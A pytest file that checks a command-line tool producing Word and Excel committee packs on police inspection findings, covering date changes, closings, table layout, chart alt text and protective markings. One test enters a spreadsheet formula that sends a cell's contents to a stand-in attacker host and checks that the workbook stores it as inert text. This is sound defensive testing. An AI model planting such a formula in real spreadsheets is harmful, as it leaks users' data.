"""The committee pack through the command line: a due-date change requested and approved, a closing, a finding not
accepted, all seen in the Word and Excel exception report, with the RAG chart (an image with alt text, an Excel
chart). Where LibreOffice is installed, the Word pack is also rendered to PNG pages under test-artifacts/.
"""

import shutil
import subprocess
from pathlib import Path

import pytest
from docx import Document
from docx.oxml.ns import qn
from openpyxl import load_workbook

from tests.flows.test_due_dates_cli import LEAD, OWNER, _wiltshire

ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "pack"


def _close(cli, action_id: int, status: str, note: str) -> None:
    asked = cli(
        "action", "update", str(action_id), "--status", status, "--response", "Done.", "--note", note, "--by", OWNER
    )
    assert asked.code == 0, asked.stderr
    assert "pending_signoff" in asked.stdout  # every closing goes through the signer
    assert cli("action", "approve", str(action_id), "--by", LEAD).code == 0


def test_the_pack_shows_what_the_committee_needs(assigned, cli_in_process, tmp_path: Path):
    cli = cli_in_process
    moved, done, declined = _wiltshire("5"), _wiltshire("4"), _wiltshire("8")
    assert cli("action", "due", str(moved), "--to", "2021-09-30", "--reason", "New IT system", "--by", OWNER).code == 0
    assert cli("action", "due-approve", str(moved), "--by", LEAD).code == 0
    _close(cli, done, "complete", "")
    _close(cli, declined, "not_accepted", "Covered by the force's existing policy")

    refused = cli("pack", "--agency", "nowhere-police", "--since", "2021-04-01", "--out", str(tmp_path))
    assert refused.code == 1
    assert refused.stderr.strip() == "actioned: error: --agency: agency 'nowhere-police' is not registered"

    result = cli(
        "pack", "--agency", "wiltshire-police", "--since", "2020-12-01", "--today", "2021-06-20",
        "--next", "2021-10-15", "--out", str(tmp_path),
    )  # fmt: skip
    assert result.code == 0, result.stderr
    assert "1 overdue, 1 due before 2021-10-15, 2 closed since 2020-12-01, 1 dates changed, 1 not accepted" in (
        result.stdout
    )
    docx = tmp_path / "pack-wiltshire-police-2021-06-20.docx"
    document = Document(str(docx))
    text = "\n".join(p.text for p in document.paragraphs)
    for heading in ("Overdue", "Due before the next meeting", "Closed since the last meeting", "Not accepted"):
        assert heading in text
    cells = [[c.text for c in row.cells] for t in document.tables for row in t.rows]
    assert [str(moved), cells_item(cells, moved), "17 June 2021", "30 September 2021", "New IT system"] == [
        *next(r for r in cells if r[0] == str(moved) and "New IT system" in r)[:5]
    ]
    assert any(r[0] == str(moved) and r[4] == "17 June 2021" for r in cells)  # the original date stays visible
    # a table running onto the next page repeats its headings there; no finding's row is broken across two pages
    assert document.tables
    for t in document.tables:
        props = [row._tr.trPr for row in t.rows]
        assert [p is not None and p.find(qn("w:tblHeader")) is not None for p in props] == [True] + [False] * (
            len(props) - 1
        )
        assert all(p is not None and p.find(qn("w:cantSplit")) is not None for p in props[1:])
    alt = document.inline_shapes[0]._inline.docPr.get("descr")
    assert alt.startswith("Open findings by RAG rating over time. 1 December 2020:")

    book = load_workbook(tmp_path / "pack-wiltshire-police-2021-06-20.xlsx")
    assert book.sheetnames == [
        "Overdue",
        "Due before the next meeting",
        "Closed since the last meeting",
        "Not accepted",
        "Target dates changed",
        "Linked findings",
        "RAG over time",
    ]
    assert book["Target dates changed"]["E2"].value == "New IT system"
    assert len(book["RAG over time"]._charts) == 1
    _look(docx)


def cells_item(cells: list[list[str]], action_id: int) -> str:
    return next(r[1] for r in cells if r[0] == str(action_id))


def _look(docx: Path) -> None:
    """Render the Word pack to PNG pages to look at, where LibreOffice and poppler are installed."""
    if not (shutil.which("soffice") and shutil.which("pdftoppm")):
        pytest.skip("LibreOffice (soffice) and pdftoppm are needed to render the pack's pages")
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "pdf", "--outdir", str(docx.parent), str(docx)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    pdf = docx.with_suffix(".pdf")
    subprocess.run(["pdftoppm", "-png", "-r", "60", str(pdf), str(ARTIFACTS / "pack")], check=True, timeout=60)
    assert list(ARTIFACTS.glob("pack*.png"))


def test_the_pack_is_marked_and_its_workbook_runs_nothing_typed(
    assigned, cli_in_process, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """The committee pack carries the protective marking as the returns do (Word header and footer on every page,
    every sheet's printed header and footer), and a reason an owner typed that a spreadsheet would run is text.
    """
    monkeypatch.setenv("ACTIONED_MARKING", "OFFICIAL-SENSITIVE")
    cli = cli_in_process
    moved = _wiltshire("5")
    hostile = '=HYPERLINK("https://attacker.example/?"&A1,"Click for details")'
    assert cli("action", "due", str(moved), "--to", "2021-09-30", "--reason", hostile, "--by", OWNER).code == 0
    result = cli(
        "pack", "--agency", "wiltshire-police", "--since", "2020-12-01", "--today", "2021-06-20",
        "--next", "2021-10-15", "--out", str(tmp_path),
    )  # fmt: skip
    assert result.code == 0, result.stderr

    document = Document(str(tmp_path / "pack-wiltshire-police-2021-06-20.docx"))
    for section in document.sections:
        assert section.header.paragraphs[0].text == "OFFICIAL-SENSITIVE"
        assert section.footer.paragraphs[0].text == "OFFICIAL-SENSITIVE"
    book = load_workbook(tmp_path / "pack-wiltshire-police-2021-06-20.xlsx")
    for sheet in book.worksheets:
        assert sheet.oddHeader.center.text == "OFFICIAL-SENSITIVE", sheet.title
        assert sheet.oddFooter.center.text == "OFFICIAL-SENSITIVE", sheet.title
    reason = book["Target dates changed"]["E2"]
    assert reason.value == "'" + hostile
    assert reason.data_type == "s"  # text, not a formula
